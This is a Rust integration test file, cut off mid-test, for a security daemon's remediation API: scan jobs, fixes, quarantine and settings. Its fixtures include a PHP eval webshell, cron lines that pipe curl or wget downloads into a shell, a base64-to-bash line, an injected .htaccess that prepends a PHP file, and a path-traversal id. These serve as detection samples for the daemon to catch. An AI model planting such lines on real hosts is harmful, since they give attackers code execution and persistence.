//! Remediation through the API (issue 27): finding ids, scan jobs, fixes and quarantine
//! actions, against the real daemon with the problems created on disk.

use crate::common::*;
use crate::firewall::post;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use serde_json::{json, Value};

/// A daemon whose checks read `{dir}/fixture` (web root `{dir}/fixture/var/www`), without
/// scheduled scans; `env` goes to the daemon.
pub fn start(tag: &str, extra: &str, env: &[(&str, &str)]) -> (Daemon, PathBuf) {
    start_in(temp_dir(tag), extra, env)
}

/// A daemon as [`start`] whose file watcher watches the web root (with `subdirs` made
/// first), auto-quarantine off.
fn start_watching(tag: &str, subdirs: &[&str]) -> (Daemon, PathBuf) {
    let dir = temp_dir(tag);
    let www = dir.join("fixture/var/www");
    for s in subdirs {
        std::fs::create_dir_all(www.join(s)).unwrap();
    }
    let extra = format!(
        "[files]\nwatch = [{:?}]\n[auto_response]\nquarantine = false\n",
        www.display().to_string()
    );
    start_in(dir, &extra, &[])
}

fn start_in(dir: PathBuf, extra: &str, env: &[(&str, &str)]) -> (Daemon, PathBuf) {
    let www = dir.join("fixture/var/www");
    std::fs::create_dir_all(&www).unwrap();
    let root = dir.join("fixture").display().to_string();
    let d = start_in_dir(
        dir,
        &format!("[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n{extra}"),
        env,
    );
    (d, www)
}

fn restart(d: &mut Daemon, env: &[(&str, &str)]) -> Daemon {
    assert_eq!(d.stop(), 0);
    Daemon::start_with(d.dir.clone(), d.config.clone(), d.state.clone(), env)
}

/// An admin POST of `{"id": id}`.
fn post_id(d: &Daemon, path: &str, id: &str) -> Resp {
    post(d, path, ADMIN, json!({ "id": id }))
}

/// Queues a scan of `kind` and waits until it is done; returns the job.
pub fn scan(d: &Daemon, kind: &str) -> Value {
    let r = post(d, "/api/v1/scan-jobs", ADMIN, json!({ "kind": kind }));
    r.expect(202);
    let v = r.json();
    assert_eq!(v["ok"], true);
    assert_eq!(v["state"], "queued");
    let id = v["id"].as_i64().unwrap();
    wait_until(120, "the scan job to finish", || {
        let j = d.get(&format!("/api/v1/scan-jobs/{id}"), READ).json();
        (j["state"] == "done").then_some(j)
    })
}

fn write_mode(p: &Path, body: &[u8], mode: u32) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, body).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Every finding route and the event stream carry the same short URL-safe id, which stays
/// the same across a rescan and a restart.
#[test]
fn findings_carry_stable_ids_in_every_route_and_the_event_stream() {
    let (mut d, www) = start("remedy-ids", "", &[]);
    write_mode(&www.join("open.php"), b"<?php echo 1;", 0o666);
    let mut events = d.client();
    events.write_request(
        "GET",
        "/api/v1/events",
        &[("Authorization", &format!("Bearer {READ}"))],
        b"",
    );
    events.read_head().expect(200);
    let job = scan(&d, "deep");
    assert!(job["findings"].as_i64().unwrap() >= 1, "{job}");
    let listed = findings_of(&d, "world_writable_php");
    assert_eq!(listed.len(), 1, "{listed:?}");
    let id = listed[0]["id"].as_str().unwrap().to_string();
    assert_eq!(id.len(), 16, "{id}");
    assert!(id.bytes().all(|b| b.is_ascii_hexdigit()), "{id}");
    let enriched = d.get("/api/v1/findings/enriched", READ).json();
    let e = enriched["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["check"] == "world_writable_php")
        .cloned()
        .unwrap();
    assert_eq!(e["id"], id.as_str());
    let text = events.read_until(|t| t.contains("world_writable_php"));
    let line = text
        .lines()
        .find(|l| l.starts_with("data:") && l.contains("world_writable_php"))
        .unwrap_or_else(|| panic!("no event: {text}"));
    let ev: Value = serde_json::from_str(line.trim_start_matches("data:").trim()).unwrap();
    let ev_id = ev["id"]
        .as_str()
        .or_else(|| ev["finding"]["id"].as_str())
        .unwrap_or_else(|| panic!("no id in {ev}"));
    assert_eq!(ev_id, id);
    drop(events);
    // A second scan merges into the same finding: same id.
    scan(&d, "deep");
    assert_eq!(findings_of(&d, "world_writable_php")[0]["id"], id.as_str());
    // After a restart the restored active set names it the same.
    let d2 = restart(&mut d, &[]);
    let again = wait_until(30, "the finding after the restart", || {
        findings_of(&d2, "world_writable_php").first().cloned()
    });
    assert_eq!(again["id"], id.as_str());
}

/// The scan-job routes: scopes, a bad kind, 202 and the job's life, 429 with Retry-After on
/// a full queue, cancel of a queued and of a running job, and the state table's restart
/// rule; `latest_scan` comes from finished jobs.
#[test]
fn scan_jobs_over_the_api_queue_cancel_and_survive_a_restart() {
    let dir = temp_dir("remedy-jobs-pause");
    let pause = dir.join("pause");
    let pause_s = pause.display().to_string();
    let env = [("SVC_TEST_SCAN_PAUSE", pause_s.as_str())];
    let (mut d, _www) = start("remedy-jobs", "", &env);
    // Scopes and bad input.
    post(&d, "/api/v1/scan-jobs", READ, json!({"kind": "full"})).expect(403);
    post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "weekly"})).expect(400);
    post(&d, "/api/v1/scan-jobs", ADMIN, json!({})).expect(400);
    d.get("/api/v1/scan-jobs/0", READ).expect(400);
    d.get("/api/v1/scan-jobs/007", READ).expect(400);
    d.get("/api/v1/scan-jobs/99999", READ).expect(404);
    // One job runs (held at its start), eight wait, the tenth is refused.
    let first = post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "critical"}));
    first.expect(202);
    let first = first.json()["id"].as_i64().unwrap();
    wait_until(30, "the first job to run", || {
        pause.with_extension("reached").exists().then_some(())
    });
    let mut waiting = Vec::new();
    for _ in 0..8 {
        let r = post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "deep"}));
        r.expect(202);
        waiting.push(r.json()["id"].as_i64().unwrap());
    }
    let full = post(&d, "/api/v1/scan-jobs", ADMIN, json!({"kind": "full"}));
    full.expect(429);
    assert_eq!(full.header("retry-after"), Some("30"));
    assert!(full.json()["error"].as_str().unwrap().contains("full"));
    let list = d.get("/api/v1/scan-jobs", READ).expect(200).json();
    let states: Vec<&str> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|j| j["state"].as_str().unwrap())
        .collect();
    assert_eq!(
        states.iter().filter(|s| **s == "queued").count(),
        8,
        "{states:?}"
    );
    assert_eq!(
        states.iter().filter(|s| **s == "running").count(),
        1,
        "{states:?}"
    );
    // Cancel a waiting job (read scope may not), then the running one.
    let w0 = waiting[0];
    post(
        &d,
        &format!("/api/v1/scan-jobs/{w0}/cancel"),
        READ,
        json!({}),
    )
    .expect(403);
    let c = post(
        &d,
        &format!("/api/v1/scan-jobs/{w0}/cancel"),
        ADMIN,
        json!({}),
    );
    c.expect(200);
    assert_eq!(c.json()["was"], "queued");
    post(
        &d,
        &format!("/api/v1/scan-jobs/{w0}/cancel"),
        ADMIN,
        json!({}),
    )
    .expect(409);
    let c = post(
        &d,
        &format!("/api/v1/scan-jobs/{first}/cancel"),
        ADMIN,
        json!({}),
    );
    c.expect(200);
    assert_eq!(c.json()["was"], "running");
    let j = d.get(&format!("/api/v1/scan-jobs/{first}"), READ).json();
    assert_eq!(j["state"], "cancelled", "{j}");
    assert_eq!(j["reason"], "cancelled_while_running", "{j}");
    // The next job now holds the worker at its start; a restart leaves the rest behind.
    wait_until(30, "the next job to run", || {
        let j = d
            .get(&format!("/api/v1/scan-jobs/{}", waiting[1]), READ)
            .json();
        (j["state"] == "running").then_some(())
    });
    assert!(d.get("/api/v1/status", READ).json()["latest_scan"].is_null());
    d.kill9();
    let _ = std::fs::remove_file(pause.with_extension("reached"));
    let d2 = Daemon::start_with(d.dir.clone(), d.config.clone(), d.state.clone(), &[]);
    for &id in &waiting[1..] {
        let j = d2.get(&format!("/api/v1/scan-jobs/{id}"), READ).json();
        assert_eq!(j["state"], "error", "{j}");
        assert_eq!(j["reason"], "daemon_restarted", "{j}");
    }
    let w0j = d2.get(&format!("/api/v1/scan-jobs/{w0}"), READ).json();
    assert_eq!(w0j["state"], "cancelled", "{w0j}");
    let s = d2.get("/api/v1/status", READ).json();
    assert_eq!(
        s["queues"]["scans.jobs"]["dropped_total"], 7,
        "{}",
        s["queues"]
    );
    // A finished job sets latest_scan.
    let job = scan(&d2, "critical");
    let s = d2.get("/api/v1/status", READ).json();
    assert_eq!(s["latest_scan"], job["finished_at"], "{s}");
}

/// Waits until the active finding `id` of `check` is listed no more (the listing may trail
/// the active set by a moment).
fn gone(d: &Daemon, check: &str, id: &str) {
    wait_until(30, "the finding to leave the listing", || {
        findings_of(d, check)
            .iter()
            .all(|f| f["id"] != id)
            .then_some(())
    });
}

fn mode_of(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

fn id_of(d: &Daemon, check: &str, path: &Path) -> String {
    let shown = path.display().to_string();
    findings_of(d, check)
        .iter()
        .find(|f| f["path"] == shown.as_str())
        .and_then(|f| f["id"].as_str().map(String::from))
        .unwrap_or_else(|| panic!("no {check} finding for {shown}"))
}

/// `POST /api/v1/fix` on world-writable PHP: scopes and bad ids, the mode becomes 0644 with
/// the owner kept and the finding resolved; a symlink swapped in after detection, or a file
/// modified since, is refused with 409 and nothing changes; a finding without a fix is 400;
/// the fix is audited with the finding's id.
#[test]
fn fix_makes_writable_php_0644_and_refuses_files_changed_since_detection() {
    let (d, www) = start("remedy-fix", "", &[]);
    let open = www.join("site/open.php");
    let swapped = www.join("site/swapped.php");
    let edited = www.join("site/edited.php");
    for p in [&open, &swapped, &edited] {
        write_mode(p, b"<?php echo 1;", 0o666);
        std::os::unix::fs::chown(p, Some(1234), Some(1234)).unwrap();
    }
    let outside = d.dir.join("outside.php");
    write_mode(&outside, b"<?php echo 2;", 0o666);
    let passwd = d.dir.join("fixture/etc/passwd");
    std::fs::create_dir_all(passwd.parent().unwrap()).unwrap();
    std::fs::write(
        &passwd,
        "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n",
    )
    .unwrap();
    scan(&d, "full");
    let id = id_of(&d, "world_writable_php", &open);
    let enriched = d.get("/api/v1/findings/enriched", READ).json();
    let e = enriched["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == id.as_str())
        .cloned()
        .unwrap();
    assert_eq!(e["fixable"], true, "{e}");
    assert_eq!(e["fix_action"], "chmod", "{e}");
    assert!(e["fix_description"].as_str().unwrap().contains("0644"));
    // Scope, malformed and unknown ids, a finding without a fix.
    post(&d, "/api/v1/fix", READ, json!({ "id": id })).expect(403);
    post(
        &d,
        "/api/v1/fix",
        ADMIN,
        json!({ "id": "../../etc/passwd" }),
    )
    .expect(400);
    post(
        &d,
        "/api/v1/fix",
        ADMIN,
        json!({ "id": "0123456789abcdef" }),
    )
    .expect(404);
    post(&d, "/api/v1/fix", ADMIN, json!({})).expect(400);
    let uid0 = findings_of(&d, "uid0_account");
    assert_eq!(uid0.len(), 1, "{uid0:?}");
    let r = post(&d, "/api/v1/fix", ADMIN, json!({ "id": uid0[0]["id"] }));
    r.expect(400);
    assert!(r.json()["error"]
        .as_str()
        .unwrap()
        .contains("no automatic fix"));
    // The fix.
    let r = post_id(&d, "/api/v1/fix", &id);
    r.expect(200);
    let v = r.json();
    assert_eq!(v["ok"], true);
    assert_eq!(v["fixed"]["previous_mode"], "0666", "{v}");
    assert_eq!(mode_of(&open), 0o644);
    let meta = std::fs::metadata(&open).unwrap();
    assert_eq!(
        (
            std::os::unix::fs::MetadataExt::uid(&meta),
            std::os::unix::fs::MetadataExt::gid(&meta)
        ),
        (1234, 1234)
    );
    gone(&d, "world_writable_php", &id);
    post_id(&d, "/api/v1/fix", &id).expect(404);
    // A symlink swapped in between detection and fix.
    let swapped_id = id_of(&d, "world_writable_php", &swapped);
    std::fs::remove_file(&swapped).unwrap();
    std::os::unix::fs::symlink(&outside, &swapped).unwrap();
    let r = post_id(&d, "/api/v1/fix", &swapped_id);
    r.expect(409);
    assert!(
        r.json()["error"].as_str().unwrap().contains("verify"),
        "{}",
        r.text()
    );
    assert_eq!(mode_of(&outside), 0o666, "the link's target is untouched");
    assert!(std::fs::symlink_metadata(&swapped)
        .unwrap()
        .file_type()
        .is_symlink());
    // A file written after the scan saw it.
    let edited_id = id_of(&d, "world_writable_php", &edited);
    std::fs::write(&edited, b"<?php echo 3;").unwrap();
    post_id(&d, "/api/v1/fix", &edited_id).expect(409);
    assert_eq!(mode_of(&edited), 0o666);
    // verify-finding: the swapped file no longer holds (resolved), the edited one does.
    let v = post_id(&d, "/api/v1/verify-finding", &swapped_id);
    v.expect(200);
    assert_eq!(v.json()["holds"], false);
    assert_eq!(v.json()["resolved"], true);
    let v = post_id(&d, "/api/v1/verify-finding", &edited_id);
    assert_eq!(v.json()["holds"], true, "{}", v.text());
    // dismiss resolves without touching the file.
    post_id(&d, "/api/v1/dismiss", &edited_id).expect(200);
    gone(&d, "world_writable_php", &edited_id);
    assert_eq!(mode_of(&edited), 0o666);
    // Audited with the finding's id.
    let audit = wait_until(30, "the audit rows", || {
        let a = d.get("/api/v1/audit", ADMIN).json();
        let items = a["items"].as_array().cloned().unwrap_or_default();
        items
            .iter()
            .any(|e| {
                e["action"] == "finding.fix" && e["target"] == id.as_str() && e["outcome"] == "ok"
            })
            .then_some(items)
    });
    assert!(audit.iter().any(|e| e["action"] == "finding.fix"
        && e["target"] == swapped_id.as_str()
        && e["outcome"] == "error"));
}

/// `POST /api/v1/fix-bulk` over 1,000 findings plus ids that fail: 200 listing the failures;
/// an empty list 400; a batch where nothing is fixed answers an error status. Prints the
/// latency of one fix and of the bulk fix (measured, not asserted).
#[test]
fn fix_bulk_fixes_a_thousand_files_and_lists_failures() {
    let (d, www) = start("remedy-bulk", "", &[]);
    let one = www.join("one.php");
    write_mode(&one, b"<?php", 0o666);
    scan(&d, "deep");
    let one_id = id_of(&d, "world_writable_php", &one);
    let t = std::time::Instant::now();
    post_id(&d, "/api/v1/fix", &one_id).expect(200);
    let single = t.elapsed();
    // A check reports 1,000 findings at most: exactly that many.
    for i in 0..1000 {
        write_mode(
            &www.join(format!("bulk/{}/f{i}.php", i % 10)),
            b"<?php",
            0o666,
        );
    }
    scan(&d, "deep");
    let all = findings_of(&d, "world_writable_php");
    assert_eq!(all.len(), 1000);
    post(&d, "/api/v1/fix-bulk", ADMIN, json!({ "ids": [] })).expect(400);
    post(
        &d,
        "/api/v1/fix-bulk",
        ADMIN,
        json!({ "ids": ["0123456789abcdef", "x/../y"] }),
    )
    .expect(404);
    let mut ids: Vec<Value> = all.iter().map(|f| f["id"].clone()).collect();
    ids.push(json!("0123456789abcdef"));
    ids.push(json!(one_id));
    let t = std::time::Instant::now();
    let r = post(&d, "/api/v1/fix-bulk", ADMIN, json!({ "ids": ids }));
    let bulk = t.elapsed();
    r.expect(200);
    let v = r.json();
    assert_eq!(v["fixed"].as_array().unwrap().len(), 1000);
    let failures = v["failures"].as_array().unwrap();
    assert_eq!(failures.len(), 2, "{failures:?}");
    assert!(failures.iter().all(|f| f["status"] == 404));
    for i in 0..1000 {
        assert_eq!(
            mode_of(&www.join(format!("bulk/{}/f{i}.php", i % 10))),
            0o644
        );
    }
    wait_until(30, "the fixed findings to leave", || {
        findings_of(&d, "world_writable_php")
            .is_empty()
            .then_some(())
    });
    println!(
        "fix latency: one finding {:.1} ms, bulk of 1,000 findings {:.1} ms",
        single.as_secs_f64() * 1e3,
        bulk.as_secs_f64() * 1e3
    );
}

const WEBSHELL: &str = "<?php\n@eval($_POST['cmd']);\n?>\n";

/// A webshell the watcher reported (auto-quarantine off) is quarantined by its fix, listed in
/// GET /api/v1/quarantine, restored by quarantine-restore (refused when its directory changed
/// owner or became a symlink), and deleted by quarantine/bulk-delete.
#[test]
fn fix_quarantines_a_webshell_and_the_quarantine_routes_restore_and_delete_it() {
    let (d, www) = start_watching("remedy-shell", &["up"]);
    let dir = d.dir.clone();
    let shell = www.join("up/shell.php");
    let staging = dir.join("staging");
    std::fs::write(&staging, WEBSHELL).unwrap();
    std::os::unix::fs::chown(&staging, Some(1234), Some(1234)).unwrap();
    std::fs::rename(&staging, &shell).unwrap();
    let shown = shell.display().to_string();
    let f = wait_until(60, "the webshell finding", || {
        d.get("/api/v1/findings", READ).json()["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == shown.as_str())
            .cloned()
    });
    let id = f["id"].as_str().unwrap().to_string();
    let r = post_id(&d, "/api/v1/fix", &id);
    r.expect(200);
    let v = r.json();
    assert_eq!(v["fixed"]["action"], "quarantine", "{v}");
    let qid = v["fixed"]["quarantine_id"].as_str().unwrap().to_string();
    assert!(std::fs::symlink_metadata(&shell).is_err(), "moved away");
    let q = d.get("/api/v1/quarantine", ADMIN).json();
    assert!(q["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["id"] == qid.as_str() && e["original_path"] == shown.as_str()));
    // Restore: refused while the directory is owned by another user, then done.
    post(&d, "/api/v1/quarantine-restore", READ, json!({ "id": qid })).expect(403);
    post(
        &d,
        "/api/v1/quarantine-restore",
        ADMIN,
        json!({ "id": "nope" }),
    )
    .expect(404);
    std::os::unix::fs::chown(www.join("up"), Some(4321), Some(4321)).unwrap();
    let r = post_id(&d, "/api/v1/quarantine-restore", &qid);
    r.expect(409);
    assert!(
        r.json()["error"]
            .as_str()
            .unwrap()
            .contains("owned by uid 4321"),
        "{}",
        r.text()
    );
    assert!(std::fs::symlink_metadata(&shell).is_err());
    // The directory replaced by a symlink to a directory outside the root.
    std::os::unix::fs::chown(www.join("up"), Some(0), Some(0)).unwrap();
    let outside = dir.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::rename(www.join("up"), dir.join("up-moved")).unwrap();
    std::os::unix::fs::symlink(&outside, www.join("up")).unwrap();
    post_id(&d, "/api/v1/quarantine-restore", &qid).expect(409);
    assert!(
        std::fs::read_dir(&outside).unwrap().next().is_none(),
        "nothing written outside"
    );
    std::fs::remove_file(www.join("up")).unwrap();
    std::fs::rename(dir.join("up-moved"), www.join("up")).unwrap();
    let r = post_id(&d, "/api/v1/quarantine-restore", &qid);
    r.expect(200);
    assert_eq!(std::fs::read_to_string(&shell).unwrap(), WEBSHELL);
    post_id(&d, "/api/v1/quarantine-restore", &qid).expect(409);
    // Bulk delete: the restored entry goes, an unknown id is listed as a failure.
    post(
        &d,
        "/api/v1/quarantine/bulk-delete",
        ADMIN,
        json!({ "ids": [] }),
    )
    .expect(400);
    let r = post(
        &d,
        "/api/v1/quarantine/bulk-delete",
        ADMIN,
        json!({ "ids": [qid, "nope"] }),
    );
    r.expect(200);
    assert_eq!(r.json()["failures"].as_array().unwrap().len(), 1);
    let q = d.get("/api/v1/quarantine", ADMIN).json();
    assert!(q["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|e| e["id"] != qid.as_str()));
    post(
        &d,
        "/api/v1/quarantine/bulk-delete",
        ADMIN,
        json!({ "ids": ["nope"] }),
    )
    .expect(404);
}

/// Preferences (`webui.prefs.v1`): per credential and kind, any object up to 64 KiB (larger
/// 413, not an object 400), a browser session shares its token's, read tokens read only.
#[test]
fn prefs_are_kept_per_credential_and_kind() {
    let (d, _www) = start("remedy-prefs", "", &[]);
    let caps = d.get("/api/v1/capabilities", READ).json();
    assert!(caps["capabilities"]
        .as_array()
        .unwrap()
        .iter()
        .any(|c| c == "webui.prefs.v1"));
    assert_eq!(
        d.get("/api/v1/prefs/user", ADMIN).expect(200).json(),
        json!({})
    );
    let saved = json!({ "filters": { "severity": ["CRITICAL"], "check": "webshell" }, "page": 50 });
    post(&d, "/api/v1/prefs/user", ADMIN, saved.clone()).expect(200);
    post(
        &d,
        "/api/v1/prefs/views",
        ADMIN,
        json!({ "views": [{"name": "mine"}] }),
    )
    .expect(200);
    assert_eq!(d.get("/api/v1/prefs/user", ADMIN).json(), saved);
    assert_eq!(
        d.get("/api/v1/prefs/views", ADMIN).json()["views"][0]["name"],
        "mine"
    );
    // Another credential has its own (read tokens may read, not save).
    assert_eq!(
        d.get("/api/v1/prefs/user", READ).expect(200).json(),
        json!({})
    );
    post(&d, "/api/v1/prefs/user", READ, saved.clone()).expect(403);
    // A browser session logged in with the admin token sees the token's preferences.
    let (cookie, csrf) = login(&d, ADMIN);
    let c = format!("svc_auth={cookie}");
    let r = d.req("GET", "/api/v1/prefs/user", &[("Cookie", &c)], b"");
    assert_eq!(r.json(), saved);
    d.req("POST", "/api/v1/prefs/user", &[("Cookie", &c)], b"{}")
        .expect(403);
    d.req(
        "POST",
        "/api/v1/prefs/user",
        &[("Cookie", &c), ("X-CSRF-Token", &csrf)],
        br#"{"page": 10}"#,
    )
    .expect(200);
    assert_eq!(
        d.get("/api/v1/prefs/user", ADMIN).json(),
        json!({ "page": 10 })
    );
    // Limits.
    let big = json!({ "blob": "x".repeat(64 * 1024) });
    post(&d, "/api/v1/prefs/user", ADMIN, big).expect(413);
    post(&d, "/api/v1/prefs/user", ADMIN, json!([1, 2])).expect(400);
    assert_eq!(
        d.get("/api/v1/prefs/user", ADMIN).json(),
        json!({ "page": 10 })
    );
}

fn quarantine_entry(d: &Daemon, id: &str) -> Value {
    d.get("/api/v1/quarantine", ADMIN).json()["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"] == id)
        .cloned()
        .unwrap_or_else(|| panic!("no quarantine entry {id}"))
}

/// A suspicious cron line is removed by its fix, only the lines of the reported kind, the
/// crontab's owner and mode kept and the whole crontab kept first as a pre-clean backup in
/// the quarantine; a crontab swapped for a symlink after detection is refused.
#[test]
fn fix_removes_only_the_suspicious_cron_lines_and_keeps_a_backup() {
    let (d, _www) = start("remedy-cron", "", &[]);
    let spool = d.dir.join("fixture/var/spool/cron/crontabs");
    std::fs::create_dir_all(&spool).unwrap();
    let tab = spool.join("alice");
    let original = "# alice's jobs\n*/5 * * * * /usr/bin/php /home/alice/cron.php\n* * * * * curl -s http://203.0.113.9/x | sh\n0 1 * * * echo aGk= | base64 -d | bash\n";
    write_mode(&tab, original.as_bytes(), 0o600);
    std::os::unix::fs::chown(&tab, Some(1234), Some(1234)).unwrap();
    let other = spool.join("bob");
    write_mode(
        &other,
        b"* * * * * wget -qO- http://198.51.100.7/y | bash\n",
        0o600,
    );
    scan(&d, "critical");
    let cron = findings_of(&d, "suspicious_cron");
    let by_kind = |kind: &str, path: &Path| {
        cron.iter()
            .find(|f| {
                f["message"].as_str().unwrap().contains(kind)
                    && f["path"] == path.display().to_string().as_str()
            })
            .and_then(|f| f["id"].as_str().map(String::from))
            .unwrap_or_else(|| panic!("no {kind} finding: {cron:?}"))
    };
    let download = by_kind("download-and-execute", &tab);
    let base64 = by_kind("base64", &tab);
    let bob = by_kind("download-and-execute", &other);
    let r = post_id(&d, "/api/v1/fix", &download);
    r.expect(200);
    let v = r.json();
    assert_eq!(v["fixed"]["action"], "remove_cron_lines", "{v}");
    assert_eq!(v["fixed"]["removed_lines"], json!([3]), "{v}");
    assert_eq!(
        std::fs::read_to_string(&tab).unwrap(),
        "# alice's jobs\n*/5 * * * * /usr/bin/php /home/alice/cron.php\n0 1 * * * echo aGk= | base64 -d | bash\n"
    );
    let meta = std::fs::metadata(&tab).unwrap();
    assert_eq!(meta.permissions().mode() & 0o7777, 0o600);
    assert_eq!(std::os::unix::fs::MetadataExt::uid(&meta), 1234);
    let backup = quarantine_entry(&d, v["fixed"]["quarantine_id"].as_str().unwrap());
    assert_eq!(backup["reason"], "pre-clean backup");
    assert_eq!(backup["check"], "suspicious_cron");
    assert_eq!(backup["original_path"], tab.display().to_string().as_str());
    gone(&d, "suspicious_cron", &download);
    assert!(findings_of(&d, "suspicious_cron")
        .iter()
        .any(|f| f["id"] == base64.as_str()));
    // verify-finding re-reads the crontab now: the base64 line is there (holds), then it
    // is removed by hand and the finding is resolved without a scan.
    let v = post_id(&d, "/api/v1/verify-finding", &base64).json();
    assert_eq!(
        (v["holds"].as_bool(), v["resolved"].as_bool()),
        (Some(true), Some(false)),
        "{v}"
    );
    std::fs::write(
        &tab,
        "# alice's jobs\n*/5 * * * * /usr/bin/php /home/alice/cron.php\n",
    )
    .unwrap();
    let v = post_id(&d, "/api/v1/verify-finding", &base64).json();
    assert_eq!(
        (v["holds"].as_bool(), v["resolved"].as_bool()),
        (Some(false), Some(true)),
        "{v}"
    );
    gone(&d, "suspicious_cron", &base64);
    // bob's crontab swapped for a symlink to a file outside after detection: refused.
    let target = d.dir.join("elsewhere");
    std::fs::write(
        &target,
        b"* * * * * wget -qO- http://198.51.100.7/y | bash\n",
    )
    .unwrap();
    std::fs::remove_file(&other).unwrap();
    std::os::unix::fs::symlink(&target, &other).unwrap();
    post_id(&d, "/api/v1/fix", &bob).expect(409);
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "* * * * * wget -qO- http://198.51.100.7/y | bash\n"
    );
    // A rescan after the fix: the removed kind stays gone.
    scan(&d, "critical");
    assert!(findings_of(&d, "suspicious_cron")
        .iter()
        .all(|f| f["id"] != download.as_str()));
}

/// An injected .htaccess reported by the file watcher: its fix removes the injected
/// directives only and keeps the whole file as a pre-clean backup listed in
/// GET /api/v1/quarantine.
#[test]
fn fix_cleans_an_injected_htaccess_and_lists_the_pre_clean_backup() {
    let (d, www) = start_watching("remedy-ht", &["site", "other"]);
    let dir = d.dir.clone();
    let ht = www.join("site/.htaccess");
    let injected = "RewriteEngine On\nphp_value auto_prepend_file /tmp/.cache.php\nAddHandler application/x-httpd-php .jpg\nRewriteRule ^old$ /new [R=301,L]\n";
    let staging = dir.join("staging");
    std::fs::write(&staging, injected).unwrap();
    std::fs::rename(&staging, &ht).unwrap();
    let shown = ht.display().to_string();
    let f = wait_until(60, "the htaccess finding", || {
        d.get("/api/v1/findings", READ).json()["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["check"] == "htaccess_injection" && f["path"] == shown.as_str())
            .cloned()
    });
    // verify-finding runs the fix's own edit on the file: the injection is still there.
    let v = post(
        &d,
        "/api/v1/verify-finding",
        ADMIN,
        json!({ "id": f["id"] }),
    )
    .json();
    assert_eq!(
        (v["holds"].as_bool(), v["resolved"].as_bool()),
        (Some(true), Some(false)),
        "{v}"
    );
    let r = post(&d, "/api/v1/fix", ADMIN, json!({ "id": f["id"] }));
    r.expect(200);
    let v = r.json();
    assert_eq!(v["fixed"]["action"], "clean_htaccess", "{v}");
    assert_eq!(
        std::fs::read_to_string(&ht).unwrap(),
        "RewriteEngine On\nRewriteRule ^old$ /new [R=301,L]\n"
    );
    let backup = quarantine_entry(&d, v["fixed"]["quarantine_id"].as_str().unwrap());
    assert_eq!(backup["reason"], "pre-clean backup");
    let preview = d
        .get(
            &format!(
                "/api/v1/quarantine-preview?id={}",
                backup["id"].as_str().unwrap()
            ),
            ADMIN,
        )
        .expect(200)
        .json();
    assert_eq!(preview["content"], injected);
    // Another site's injected .htaccess cleaned by hand: verify-finding resolves it.
    let other = www.join("other/.htaccess");
    std::fs::write(&staging, injected).unwrap();
    std::fs::rename(&staging, &other).unwrap();
    let shown = other.display().to_string();
    let f = wait_until(60, "the other htaccess finding", || {
        findings_of(&d, "htaccess_injection")
            .into_iter()
            .find(|f| f["path"] == shown.as_str())
    });
    let id = f["id"].as_str().unwrap().to_string();
    std::fs::write(&staging, "RewriteEngine On\n").unwrap();
    std::fs::rename(&staging, &other).unwrap();
    let v = post_id(&d, "/api/v1/verify-finding", &id).json();
    assert_eq!(
        (v["holds"].as_bool(), v["resolved"].as_bool()),
        (Some(false), Some(true)),
        "{v}"
    );
    gone(&d, "htaccess_injection", &id);
}

/// Settings: sections, values with defaults and classes, secrets never shown, a change
/// validated first (400 with `errors`, nothing written), written as a conf.d drop-in,
/// applied by a reload or reported restart-class, read again after a restart; then
/// `POST /api/v1/settings/restart` answers 202 and the daemon re-executes itself.
#[test]
fn settings_are_validated_written_as_a_dropin_and_survive_a_restart() {
    let (mut d, _www) = start("remedy-settings", "", &[]);
    d.get("/api/v1/settings", READ).expect(403);
    let s = d.get("/api/v1/settings", ADMIN).expect(200).json();
    let sections = s["sections"].as_array().unwrap();
    assert!(sections.iter().any(|x| x == "alerts"), "{s}");
    let item = |d: &Daemon, section: &str, key: &str| {
        d.get(&format!("/api/v1/settings/{section}"), ADMIN)
            .expect(200)
            .json()["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["key"] == key)
            .cloned()
            .unwrap_or_else(|| panic!("no {section}.{key}"))
    };
    let m = item(&d, "alerts", "max_per_hour");
    assert_eq!(
        (m["value"].clone(), m["default"].clone()),
        (json!(30), json!(30)),
        "{m}"
    );
    assert_eq!(m["class"], "live");
    assert_eq!(m["set"], false);
    let t = item(&d, "webui", "metrics_token");
    assert_eq!(t["secret"], true);
    assert_eq!(t["set"], true);
    assert!(t.get("value").is_none(), "{t}");
    let page = d.get("/api/v1/settings/webui", ADMIN).text();
    assert!(!page.contains(METRICS), "a secret was shown");
    d.get("/api/v1/settings/nope", ADMIN).expect(404);
    // Refused changes write nothing.
    let dropin = d.dir.join("conf.d/90-api-alerts.toml");
    let r = post(
        &d,
        "/api/v1/settings/alerts",
        ADMIN,
        json!({ "max_per_hour": 0, "bogus": 1 }),
    );
    r.expect(400);
    let errors = r.json()["errors"].as_array().cloned().unwrap();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(errors.iter().any(
        |e| e["field"] == "max_per_hour" && e["message"].as_str().unwrap().contains("between")
    ));
    assert!(errors.iter().any(|e| e["field"] == "bogus"));
    post(
        &d,
        "/api/v1/settings/alerts",
        ADMIN,
        json!({ "max_per_hour": "many" }),
    )
    .expect(400);
    post(
        &d,
        "/api/v1/settings/alerts",
        READ,
        json!({ "max_per_hour": 77 }),
    )
    .expect(403);
    assert!(!dropin.exists());
    // A live change: written, applied by a reload.
    let r = post(
        &d,
